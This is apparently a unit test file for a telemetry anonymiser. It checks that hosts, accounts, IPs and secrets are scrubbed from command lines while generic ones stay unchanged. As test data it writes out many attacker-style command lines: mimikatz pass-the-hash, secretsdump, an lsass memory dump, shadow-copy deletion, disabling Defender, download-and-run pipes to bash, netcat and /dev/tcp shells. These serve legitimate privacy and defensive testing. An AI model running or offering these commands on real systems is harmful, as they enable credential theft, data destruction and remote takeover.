import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { Anonymiser } from '../../../server/src/events/anonymise/anonymiser.js';

const COLUMN = { name: 'ProcessCommandLine', type: 'string' } as const;

const encoded = (text: string, encoding: BufferEncoding = 'utf16le'): string =>
  Buffer.from(text, encoding).toString('base64');

/** Command lines, and what they tell by themselves: by an option, a path, an address, a form. In lower case. */
const TOLD: readonly (readonly [command: string, told: readonly string[]])[] = [
  ['net use \\\\zqfs01\\share /user:ZQDOM\\zqalice Zq9Passw0rd!', ['zqfs01', 'zqdom', 'zqalice', 'zq9passw0rd']],
  ['net use \\\\zqfs01\\share Zq9Passw0rd! /user:zqalice', ['zqfs01', 'zqalice', 'zq9passw0rd']],
  ['runas /user:ZQDOM\\zqalice cmd', ['zqdom', 'zqalice']],
  ['psexec \\\\zqhost -u ZQDOM\\zqalice -p Zq9Passw0rd cmd', ['zqhost', 'zqdom', 'zqalice', 'zq9passw0rd']],
  ['schtasks /create /s zqhost /ru ZQDOM\\zqalice /rp Zq9Passw0rd', ['zqhost', 'zqdom', 'zqalice', 'zq9passw0rd']],
  ['wmic /node:zqhost /user:zqalice /password:Zq9Passw0rd process', ['zqhost', 'zqalice', 'zq9passw0rd']],
  ['wmic /node:"zqhost" process', ['zqhost']],
  ['cmdkey /add:zqhost /user:zqalice /pass:Zq9Passw0rd', ['zqhost', 'zqalice', 'zq9passw0rd']],
  ['mysql -u zqalice -pZq9Passw0rd -h zqhost', ['zqalice', 'zq9passw0rd', 'zqhost']],
  ['mysql -uzqalice -pZq9Passw0rd --host=zqhost', ['zqalice', 'zq9passw0rd', 'zqhost']],
  ['sqlcmd -S zqhost -U zqalice -P Zq9Passw0rd', ['zqalice', 'zq9passw0rd', 'zqhost']],
  ['PGPASSWORD=Zq9Passw0rd psql -h zqhost -U zqalice', ['zqalice', 'zq9passw0rd', 'zqhost']],
  ['psql postgresql://zqalice:Zq9Passw0rd@zqhost/db', ['zqalice', 'zq9passw0rd', 'zqhost']],
  ['openssl rsa -passin pass:Zq9Passw0rd', ['zq9passw0rd']],
  ['az login -u zqalice@zqcorp.com -p Zq9Passw0rd', ['zqalice', 'zqcorp', 'zq9passw0rd']],
  [
    'az login --service-principal -u 3f2504e0-4f89-11d3-9a0c-0305e82c3301 -p "Zq9Passw0rd~x" --tenant zqcorp.onmicrosoft.com',
    ['3f2504e0', 'zqcorp', 'zq9passw0rd'],
  ],
  ['docker login -u zqalice -p Zq9Passw0rd zqreg.azurecr.io', ['zqalice', 'zq9passw0rd', 'zqreg']],
  [
    'docker login zqreg.zqcorp.com:5000 --username zqalice --password Zq9Passw0rd',
    ['zqalice', 'zq9passw0rd', 'zqreg', 'zqcorp'],
  ],
  ['plink zqalice@zqhost -pw Zq9Passw0rd', ['zqalice', 'zqhost', 'zq9passw0rd']],
  ['sshpass -p Zq9Passw0rd ssh zqalice@zqhost', ['zqalice', 'zqhost', 'zq9passw0rd']],
  ['echo Zq9Passw0rd | sudo -S id', ['zq9passw0rd']],
  ["ConvertTo-SecureString 'Zq9Passw0rd' -AsPlainText -Force", ['zq9passw0rd']],
  ["New-Object System.Management.Automation.PSCredential('ZQDOM\\zqalice', $p)", ['zqdom', 'zqalice']],
  ['7z a -pZq9Passw0rd x.7z', ['zq9passw0rd']],
  ['rar a -hpZq9Passw0rd x.rar', ['zq9passw0rd']],
  [
    'DefaultEndpointsProtocol=https;AccountName=zqstore;AccountKey=Zq9PAbcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijklmnopqr==;EndpointSuffix=core.windows.net',
    ['zqstore', 'zq9pabc'],
  ],
  ['curl "https://zqstore.blob.core.windows.net/zqcont/x?sv=2020&sig=Zq9Pabcd%2Fefgh%3D"', ['zqstore', 'zq9pabcd']],
  ['xfreerdp /u:zqalice /p:Zq9Passw0rd /v:zqhost /d:ZQDOM', ['zqalice', 'zq9passw0rd', 'zqhost', 'zqdom']],
  ['smbclient //zqhost/share -U ZQDOM/zqalice%Zq9Passw0rd', ['zqalice', 'zq9passw0rd', 'zqhost', 'zqdom']],
  ['secretsdump.py ZQDOM/zqalice:Zq9Passw0rd@zqhost', ['zqalice', 'zq9passw0rd', 'zqhost', 'zqdom']],
  [
    'secretsdump.py ZQDOM/zqalice@10.77.33.21 -hashes aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0',
    ['zqalice', 'zqdom', '31d6cfe0', '10.77.33.21'],
  ],
  ['evil-winrm -i 10.77.33.21 -u zqalice -p Zq9Passw0rd', ['zqalice', 'zq9passw0rd', '10.77.33.21']],
  ['ssh zqalice@zqhost', ['zqalice', 'zqhost']],
  ['scp a.txt zqalice@zqhost:/tmp', ['zqalice', 'zqhost']],
  ['mstsc /v:zqhost', ['zqhost']],
  ['Enter-PSSession -ComputerName zqhost', ['zqhost']],
  ['Invoke-Command -ComputerName zqhost,zqhost2 -Credential ZQDOM\\zqalice', ['zqhost', 'zqhost2', 'zqdom', 'zqalice']],
  ['ping db.zqcorp.com', ['zqcorp']],
  ['nslookup db01.zqcorp.local 10.77.33.21', ['zqcorp', 'db01', '10.77.33.21']],
  ['curl https://api.zqcorp.com/x', ['zqcorp']],
  ['curl http://zqhost:8080/x', ['zqhost']],
  ['kubectl --server=https://zqk8s.zqcorp.com:6443 --token Zq9Passw0rd get pods', ['zqk8s', 'zqcorp', 'zq9passw0rd']],
  ['aws configure set aws_secret_access_key wJalrXUtnFEMIzqK7MDENGbPxRfiCYEXAMPLEKEY', ['wjalrxutn']],
  ['AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls', ['wjalrxutn', 'k7mdeng']],
  ['AWS_SESSION_TOKEN=IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJH aws s3 ls', ['iqojb3']],
  ['curl -H "X-Api-Key: Zq9Passw0rd" http://10.77.33.21', ['zq9passw0rd', '10.77.33.21']],
  ['curl -H "Authorization: token Zq9Passw0rdABC" x', ['zq9passw0rd']],
  ['curl -H "Cookie: session=Zq9Passw0rdABC" x', ['zq9passw0rd']],
  ['powershell -enc ' + encoded('net use \\\\zqfs01\\s /user:ZQDOM\\zqalice'), ['zqfs01', 'zqalice', 'zqdom']],
  ['powershell -enc ' + encoded('Get-Item C:\\Users\\zqmüller\\x; ping 10.77.33.21'), ['zqmüller', '10.77.33.21']],
  ['echo ' + encoded('ssh zqalice@10.77.33.21 x', 'utf8') + '|base64 -d|sh', ['zqalice', '10.77.33.21']],
  [
    'powershell [Convert]::FromBase64String("' + encoded('Zq http://10.77.33.21/a', 'utf8').replace(/=+$/, '') + '")',
    ['10.77.33.21'],
  ],
  ['curl "http://h/?u=zqalice%40zqcorp.com&ip=10.77.33.21"', ['zqalice', 'zqcorp', '10.77.33.21']],
  ['curl http://h/?p=C%3A%5CUsers%5Czqalice%5Cx', ['zqalice']],
  ['type C:\\Users\\zqalice\\x.txt', ['zqalice']],
  ['type C:\\Users\\zqalice.ZQDOM\\x.txt', ['zqalice', 'zqdom']],
  ['cat /home/zqalice/.ssh/id_rsa', ['zqalice']],
  ['type "C:\\Users\\Zq Alice\\x.txt"', ['zq alice']],
  ['/mnt/c/Users/zqalice/x', ['zqalice']],
  ['{"path":"C:\\\\Users\\\\zqalice\\\\x"}', ['zqalice']],
  ['-----BEGIN RSA PRIVATE KEY-----\nMIIEZq9PASSAAA\nBBBB\n-----END RSA PRIVATE KEY-----', ['miiezq9pass']],
  ['echo "-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaZq9Pass-x" > k', ['b3blbnnzazq9']],
  ['-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x-1\n\nlQOYZq9Pass\n-----END', ['lqoyzq9']],
  ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ6cWFsaWNlIn0.zq9Passw0rdSig', ['eyjzdwiioij6', 'zq9passw0rdsig']],
  ['ping 2a02:1450:4001:81b::200e', ['2a02:1450']],
  ['ping 2A02:1450:4001:081B:0:0:0:200E', ['2a02:1450']],
  ['ping [2a02:1450:4001:81b::200e]:443', ['2a02:1450']],
  ['ping fe80::21a:2bff:fe3c:4d5e%eth0', ['21a:2bff']],
  ['arp 001a.2b3c.4d5e', ['001a.2b3c']],
  ['arp 00:1a:2b:3c:4d:5e 00-1A-2B-3C-4D-5E', ['00:1a:2b', '00-1a-2b']],
  ['x 52.97.133.210:443 http://52.97.133.210/a 52.97.133.210. (52.97.133.210)', ['52.97.133.210']],
  ['x ip-10-77-33-21.ec2.internal ip-10-77-33-21', ['10-77-33-21']],
  ['icacls x /grant *S-1-5-21-1004336348-1177238915-682003330-1105:F', ['1004336348']],
  ['reg HKU\\S-1-5-21-1004336348-1177238915-682003330-1105_Classes', ['1004336348']],
  ['x {3f2504e0-4f89-11d3-9a0c-0305e82c3301} 3f2504e04f8911d39a0c0305e82c3301', ['3f2504e0-4f']],
  ['git clone https://zqtoken123456:x-oauth-basic@github.com/zqorg/zqrepo', ['zqtoken']],
  ['git clone https://Zq9Passw0rdTok@github.com/a/b', ['zq9passw0rd']],
  ['ssh-rsa AAAAB3NzaC1yc2EAAAADAQZq9Pass0123 zqalice@zqhost', ['zq9pass', 'zqalice', 'zqhost']],
  ['useradd -m zqalice; echo zqalice:Zq9Passw0rd | chpasswd', ['zqalice', 'zq9passw0rd']],
  ['net user zqalice Zq9Passw0rd /add /domain', ['zqalice', 'zq9passw0rd']],
  ['net localgroup administrators ZQDOM\\zqalice /add', ['zqdom', 'zqalice']],
  ['reg add HKLM\\x /v DefaultPassword /t REG_SZ /d Zq9Passw0rd', ['zq9passw0rd']],
  ['set PASSWORD=Zq9Passw0rd&& x', ['zq9passw0rd']],
  ['$env:DB_PASSWORD="Zq9Passw0rd"', ['zq9passw0rd']],
  ['--set db.password=Zq9Passw0rd --from-literal=password=Zq9Passw0rd2', ['zq9passw0rd']],
  ['--db-password Zq9Passw0rd --rds-secret-key=Zq9Passw0rd', ['zq9passw0rd']],
  ['Password : Zq9Passw0rd', ['zq9passw0rd']],
  ['{"password":"Zq9Pass w0rd\\"x"}', ['zq9pass', 'w0rd']],
  [
    'kubectl create secret docker-registry r --docker-username=zqalice --docker-password=Zq9Passw0rd --docker-email=zqalice@zqcorp.com',
    ['zqalice', 'zq9passw0rd', 'zqcorp'],
  ],
  ['vault login s.Zq9Passw0rdAbcdefghijkl', ['zq9passw0rd']],
  [
    'ldapsearch -H ldap://zqdc01.zqcorp.local -D "CN=zqalice,OU=Zqteam,DC=zqcorp,DC=local" -w Zq9Passw0rd',
    ['zqdc01', 'zqcorp', 'zqalice', 'zq9passw0rd', 'zqteam'],
  ],
  [
    'Rubeus.exe asktgt /user:zqalice /rc4:31d6cfe0d16ae931b73c59d7e0c089c0 /domain:zqcorp.local /dc:zqdc01',
    ['zqalice', '31d6cfe0', 'zqcorp', 'zqdc01'],
  ],
  [
    'mimikatz sekurlsa::pth /user:zqalice /domain:zqcorp.local /ntlm:31d6cfe0d16ae931b73c59d7e0c089c0',
    ['zqalice', '31d6cfe0', 'zqcorp'],
  ],
  ['setspn -q MSSQLSvc/zqdb01.zqcorp.local:1433', ['zqdb01', 'zqcorp']],
  ['HTTP_PROXY=http://zqalice:Zq9Passw0rd@proxy.zqcorp.com:8080 curl x', ['zqalice', 'zq9passw0rd', 'zqcorp']],
  ['zqalice@zqcorp.com zqalice_zqcorp.com#EXT#@zqtenant.onmicrosoft.com', ['zqalice', 'zqcorp', 'zqtenant']],
  ['mailto:zq.alice+tag@zqcorp.co.uk', ['zq.alice', 'zqcorp']],
  ['https://login.microsoftonline.com/zqcorp.com/oauth2', ['zqcorp']],
  [
    '/subscriptions/3f2504e0-4f89-11d3-9a0c-0305e82c3301/resourceGroups/zq-rg/providers/Microsoft.Compute/virtualMachines/zqvm01',
    ['zq-rg', 'zqvm01', '3f2504e0'],
  ],
  ['arn:aws:iam::123456789012:role/zqrole arn:aws:s3:::zqbucket', ['123456789012']],
];

/** Command lines that name nobody, and what rules look for. */
const COMMON: readonly string[] = [
  'journalctl -u docker --since today',
  'docker run -d --rm -p 80:80 -u 1000:1000 -v /var/run/docker.sock:/var/run/docker.sock alpine:3.18 sh',
  'sort -u a.txt | uniq -c',
  'powershell (New-Object System.Net.WebClient).DownloadString("https://raw.githubusercontent.com/a/b/main/c.ps1")',
  'kubectl config view --raw --minify',
  'kubectl get secrets --all-namespaces -o json',
  'cat /etc/kubernetes/admin.conf /var/lib/kubelet/pki/kubelet-client-current.pem',
  'curl -s https://pastebin.com/raw/abc | bash',
  '/usr/bin/python3.11 -m http.server 8000',
  'npm install lodash@4.17.21 express@latest',
  'node.exe index.js app.config.json',
  'reg query HKLM\\SYSTEM\\CurrentControlSet\\Services /s',
  'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Updater /t REG_SZ /d C:\\Users\\Public\\u.exe /f',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full',
  'vssadmin delete shadows /all /quiet',
  'bcdedit /set {default} recoveryenabled No',
  'bitsadmin /transfer job https://github.com/a/b/releases/download/v1.2.3/x.exe C:\\ProgramData\\x.exe',
  'certutil -urlcache -split -f https://transfer.sh/x/y.exe',
  'net user administrator /active:yes',
  'net localgroup administrators',
  'whoami /all && nltest /domain_trusts /all_trusts',
  'wmic process call create "cmd /c calc"',
  'wmic /namespace:\\\\root\\subscription path __EventFilter',
  'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe x.csproj /p:Configuration=Release /t:Build',
  'java -Duser.home=/tmp -Djava.io.tmpdir=/tmp org.apache.catalina.startup.Bootstrap',
  'ssh -i key -L 8080:localhost:80 root@localhost',
  'tar czf - /etc | openssl enc -aes-256-cbc -pbkdf2 -out x',
  'mysql -h localhost -u root -p',
  'psql -h localhost -U postgres',
  'docker exec -it -u root web bash',
  'docker run --hostname web --user root --network host --privileged -v /:/host alpine chroot /host',
  'crictl --runtime-endpoint unix:///run/containerd/containerd.sock ps',
  'helm upgrade --install x oci://ghcr.io/a/b --set image.tag=1.2.3 --set auth.enabled=true',
  'kubectl --kubeconfig=/etc/kubernetes/kubelet.conf auth can-i --list',
  'kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=system:anonymous',
  'systemctl --user restart pipewire.service',
  'git clone git@github.com:a/b.git && git config user.name',
  'python -c "import os,pty,socket;s=socket.socket();os.dup2(s.fileno(),0)"',
  'awk -F: "{print $1}" /etc/passwd',
  'find / -perm -4000 -user root',
  'chmod u+s /tmp/x',
  'echo Y3VybCAtcyBodHRwczovL3Bhc3RlYmluLmNvbS9yYXcvYWJj | base64 -d | sh',
  'aws sts get-caller-identity --output json',
  'az account get-access-token --resource https://management.azure.com/',
  'gcloud auth print-access-token',
  'curl -H Metadata:true http://169.254.169.254/metadata/instance?api-version=2021-02-01',
  'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Windows\\Temp\\x.exe /ru SYSTEM',
  'sc.exe config WinDefend start= disabled',
  'Set-MpPreference -DisableRealtimeMonitoring $true',
  'cmd.exe /c "echo test > C:\\Windows\\Temp\\a.txt & more.com < a.txt & tree.com"',
  'nc -e /bin/sh -lvp 4444',
  'bash -c "exec 5<>/dev/tcp/127.0.0.1/4444"',
  'xmrig --url=stratum+tcp://127.0.0.1:3333 --donate-level=1',
  'ps aux | grep -i key=value',
  'mount -t cifs //127.0.0.1/share /mnt',
  'dpkg -i foo_1.2.3_amd64.deb',
  'ls /home/ /Users/ C:\\Users\\',
  'ruby -rsocket -e exit',
  'conhost.exe 0xffffffff -ForceV1',
  'svchost.exe -k netsvcs -p -s Schedule',
  'dllhost.exe /Processid:',
  'taskkill /F /IM MsMpEng.exe',
  'tasklist /svc /fi "imagename eq lsass.exe"',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe --type=renderer --host=default --user-data-dir=x --lang=en-US',
  'password reset for token bucket; key: value; secret santa',
];

function anonymised(command: string): string {
  const anonymiser = new Anonymiser({ seed: 's' });
  anonymiser.learn(command, COLUMN);
  return anonymiser.anonymise(command, COLUMN) as string;
}

/** A text, and what it holds in Base64 or percent-encoded. */
function readings(text: string): string {
  const runs = text.match(/[A-Za-z0-9+/]{16,}=*/gu) ?? [];
  const inner = runs.flatMap((run) =>
    (['utf16le', 'utf8'] as const).map((e) => Buffer.from(run, 'base64').toString(e)),
  );
  const plain = text.replace(/%([0-9a-f]{2})/giu, (_, d: string) => String.fromCharCode(parseInt(d, 16)));
  return [text, plain, ...inner].join('\n').toLowerCase();
}

describe('anonymising a command line', () => {
  it('replaces what it tells of hosts, accounts, domains, addresses and secrets', () => {
    for (const [command, told] of TOLD) {
      const made = readings(anonymised(command));
      for (const text of told) {
        assert.ok(readings(command).includes(text), `${text} is not in ${command}`);
        assert.ok(!made.includes(text), `${text} in ${made}`);
      }
    }
  });

  it('leaves what names nobody', () => {
    for (const command of COMMON) assert.equal(anonymised(command), command);
  });
});
